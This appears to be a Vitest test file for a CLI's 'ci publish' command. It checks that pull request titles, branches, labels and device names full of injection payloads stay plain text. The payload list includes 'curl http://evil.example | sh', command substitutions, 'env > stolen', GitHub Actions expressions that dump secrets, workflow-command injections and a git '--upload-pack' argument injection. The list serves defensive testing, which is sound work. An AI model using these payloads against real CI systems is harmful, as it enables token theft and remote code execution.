import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { ciPublish } from '../../../../src/cli/commands/ci/publish.ts';
import { findSnapshot } from '../../../../src/cli/commands/ci/plan.ts';
import type { Shell } from '../../../../src/shell/shell.ts';
import { planLines } from '../../../../src/plan/saved/save.ts';
import { writeStream } from '../../../../src/store/local-file.ts';
import { JOB_TOKEN } from '../../../support/canary.ts';
import { outputDouble } from '../../../support/cli-output.ts';
import { createFakeGitHub, REPOSITORY } from '../../../support/fake-github.ts';
import { change, comparedPlan } from '../../../support/render-plan.ts';
import { scratchFolder } from '../../../support/scratch.ts';
import { overFetch } from '../../../../src/model/http.ts';

const folder = scratchFolder('payloads');

/** What has been put into titles, branches and labels to take over a job (T03, T08), and kin of it. */
const PAYLOADS = [
  '${{ github.token }}',
  '${{ secrets.FLEETFORM_CLIENT_SECRET }}',
  '${{ toJSON(secrets) }}',
  "${{ format('{0}', env.GITHUB_TOKEN) }}",
  'a"; curl http://evil.example | sh; echo "',
  'a`id`',
  'a$(id)',
  '$(touch${IFS}pwned)',
  '`touch pwned`',
  "zzz';echo${IFS}hello;#",
  '"; cat $GITHUB_EVENT_PATH; "',
  '&& env > stolen',
  '|| true; exit 0',
  '$GITHUB_TOKEN',
  '${GITHUB_TOKEN}',
  '%GITHUB_TOKEN%',
  '::add-mask::x',
  '::set-output name=run-id::1',
  '::set-env name=PATH::/tmp',
  '::add-path::/tmp',
  '::stop-commands::x',
  '::error::no',
  '\n::error::no',
  '\r\n::save-state name=a::b',
  '%0A::error::no',
  '##[command]ls',
  '##vso[task.setvariable variable=a]b',
  'a\nrun-id=1',
  'a\nPATH=/tmp',
  'x<<EOF\nrun-id=1\nEOF',
  '../../../user/repos',
  'feature?state=all&head=x',
  'feature#',
  'refs/heads/main',
  '-rf',
  '--upload-pack=touch pwned',
  '<!-- fleetform plan ffffffffffffffff -->',
  '@everyone see #1 https://evil.example',
  '</details><img src=x>',
  '\u001b]0;title\u0007\u202e',
];

const SHA = 'a'.repeat(40);

it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
  '%s as branch, title, label and name of a device stays a text',
  async (_, payload) => {
    const fake = createFakeGitHub();
    const head = { sha: SHA, ref: payload, repo: { full_name: REPOSITORY } };
    const event = {
      pull_request: { number: 7, head, title: payload, body: payload, labels: [{ name: payload }] },
      repository: { default_branch: payload },
    };
    fake.pulls.push({ number: 7, head });
    const artifact = { id: 9, repository_id: 1, head_repository_id: 1, head_branch: payload };
    fake.artifacts.push({ name: 'fleetform-snapshot', expired: false, workflow_run: artifact });
    const changes = [change({ id: 'd-1', name: payload, site: payload, vendor: payload })];
    const plan = comparedPlan(changes);
    await writeStream(join(folder, 'plan.json'), planLines(plan));
    for (const name of ['outputs', 'env', 'path', 'summary']) writeFileSync(join(folder, name), '');
    writeFileSync(join(folder, 'event.json'), JSON.stringify(event));
    const out = outputDouble();
    const err = outputDouble();
    const shell = shellOf({ fake, out, err });
    await findSnapshot('fleetform-snapshot', shell);
    expect(await ciPublish.run({ fleet: 'fleet', plan: ['plan.json'] }, shell)).toBe(0);
    expect(await ciPublish.run({ drift: 'plan.json', fleet: 'fleet' }, shell)).toBe(0);

    const read = (name: string): string => readFileSync(join(folder, name), 'utf8');
    expect(['outputs', 'env', 'path'].map(read)).toEqual(['run-id=9\n', '', '']);
    expect(out.text() + err.text()).toBe('');
    const paths = new Set(fake.calls.map(({ path }) => path.replace(/\d+/g, 'N')));
    const [base = '', own = ''] = ['main', 'c'.repeat(40)];
    const compared = [SHA, own].map((each) => `compare/${base}...${each}`);
    const ours = ['actions/artifacts', 'pulls', 'issues', 'issues/N/comments', ...compared];
    expect([...paths].sort()).toEqual(ours.map((path) => `/repos/${REPOSITORY}/${path}`).sort());
    const [comment, ...more] = fake.comments;
    expect([comment?.number === undefined, more]).toEqual([false, []]);
    expect(comment?.body.split('\n')[0]).toMatch(/^<!-- fleetform plan [0-9a-f]{16} -->$/);
    expect(comment?.body.split('\n')[1]).toMatch(/^<!-- commit [0-9a-f]{40} -->$/);
    expect(comment?.body.match(/^<!-- /gm)).toHaveLength(2);
  },
);

function shellOf(parts: {
  readonly fake: ReturnType<typeof createFakeGitHub>;
  readonly out: Shell['out'];
  readonly err: Shell['err'];
}): Shell {
  const { fake, out, err } = parts;
  const file = (name: string): string => join(folder, name);
  const env = {
    GITHUB_TOKEN: JOB_TOKEN,
    GITHUB_REPOSITORY: REPOSITORY,
    GITHUB_API_URL: 'https://api.github.example',
    GITHUB_EVENT_PATH: file('event.json'),
    GITHUB_OUTPUT: file('outputs'),
    GITHUB_ENV: file('env'),
    GITHUB_PATH: file('path'),
    GITHUB_STEP_SUMMARY: file('summary'),
  };
  return {
    cwd: folder,
    env,
    out,
    err,
    clock: { sleep: async () => undefined },
    openTransport: async () => ({
      transport: overFetch(fake.handle),
      close: async () => undefined,
    }),
  } as unknown as Shell;
}
